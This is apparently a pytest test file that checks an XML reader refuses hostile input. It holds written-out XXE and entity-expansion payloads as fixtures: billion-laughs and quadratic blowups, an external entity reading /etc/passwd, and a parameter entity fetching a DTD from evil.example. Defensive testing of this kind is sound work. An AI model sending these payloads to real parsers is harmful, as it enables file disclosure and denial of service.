"""XML is read without entities, without addresses, and by pieces where it is large."""

import io
import time

import pytest
from lxml import etree

from temoin.documents.readers import markup
from temoin.documents.readers.markup import let_go, local, parse_xml, walk_xml
from temoin.errors import InputError

LAUGHS = '<!DOCTYPE l [<!ENTITY a "ha">' + "".join(
    f'<!ENTITY {chr(98 + depth)} "{f"&{chr(97 + depth)};" * 10}">' for depth in range(9)
) + "]><l>&j;</l>"  # fmt: skip
QUADRATIC = f'<!DOCTYPE l [<!ENTITY a "{"x" * 50_000}">]><l>{"&a;" * 50_000}</l>'
ATTRIBUTE = LAUGHS.replace("<l>&j;</l>", '<l a="&j;"/>')
FILE = '<!DOCTYPE l [<!ENTITY a SYSTEM "file:///etc/passwd">]><l>&a;</l>'
PARAMETER = '<!DOCTYPE l [<!ENTITY % a SYSTEM "http://evil.example/a.dtd"> %a;]><l/>'
HOSTILE = [
    pytest.param(LAUGHS.encode(), id="a billion laughs"),
    pytest.param(LAUGHS.encode("utf-16"), id="a billion laughs in UTF-16"),
    pytest.param(ATTRIBUTE.encode(), id="laughs in an attribute"),
    pytest.param(QUADRATIC.encode(), id="quadratic"),
    pytest.param(FILE.encode(), id="a file"),
    pytest.param(PARAMETER.encode(), id="an address"),
    pytest.param(b"<l>" * 1_000_000, id="depth"),
    pytest.param(b"<l>", id="cut off"),
    pytest.param(b"", id="nothing"),
    pytest.param(b"<l>&undeclared</l>", id="not well formed"),
]


def walked(data: bytes) -> list[str]:
    return [event for event, _ in walk_xml(io.BytesIO(data), "a.docx", "a.xml", ["l"])]


@pytest.mark.parametrize("data", HOSTILE)
@pytest.mark.parametrize(
    "reading", [lambda data: parse_xml(data, "a.docx", "a.xml"), walked], ids=["whole", "by pieces"]
)
def test_hostile_xml_is_refused_at_once(data, reading):
    before = time.perf_counter()
    with pytest.raises(InputError, match=r"a\.docx, a\.xml: XML that"):
        reading(data)
    assert time.perf_counter() - before < 5


def test_entities_hidden_behind_a_long_comment_stay_shut():
    data = f"<!--{'-' + ' ' * 70_000}-->{FILE}".encode()
    assert walked(data.replace(b"&a;", b"")) == ["start", "end"]
    root = parse_xml(data, "a.docx", "a.xml")
    assert "root:" not in "".join(root.itertext(with_tail=False))


@pytest.mark.parametrize("inside", [LAUGHS, ATTRIBUTE, QUADRATIC], ids=["laughs", "an attribute", "quadratic"])
def test_entities_that_are_not_seen_in_time_are_not_expanded(inside):
    data = f"<!--{' ' * 70_000}-->{inside}".encode()
    before = time.perf_counter()
    try:
        size = len(etree.tostring(parse_xml(data, "a.docx", "a.xml")))
    except InputError:
        size = 0
    assert size < 4 * len(data)
    assert time.perf_counter() - before < 5


def test_a_piece_that_never_ends_is_not_held_whole(monkeypatch):
    monkeypatch.setattr(markup, "_LARGEST_STRETCH", 100_000)
    assert len(walked(b"<a>" + (b"<b/>" * 10_000 + b"<l/>") * 20 + b"</a>")) == 40
    with pytest.raises(InputError, match="too large or deep in one piece"):
        walked(b"<a>" + b"<b/>" * 100_000 + b"</a>")


def test_elements_without_number_are_refused(monkeypatch):
    monkeypatch.setattr(markup, "_MOST_EVENTS", 10)
    with pytest.raises(InputError, match="too large"):
        walked(b"<a>" + b"<l/>" * 20 + b"</a>")


def test_a_reference_to_a_dtd_is_not_followed():
    assert parse_xml(b'<!DOCTYPE l SYSTEM "http://evil.example/a.dtd"><l>x</l>', "a", "b").text == "x"


def test_what_is_let_go_is_freed_and_the_rest_stays():
    root = etree.fromstring(b"<a><b>1</b><c>2</c>tail<d>3</d></a>")
    let_go(root[1])
    assert etree.tostring(root) == b"<a><c/>tail<d>3</d></a>"


def test_a_comment_has_no_name():
    assert local(etree.Comment("x").tag) == ""
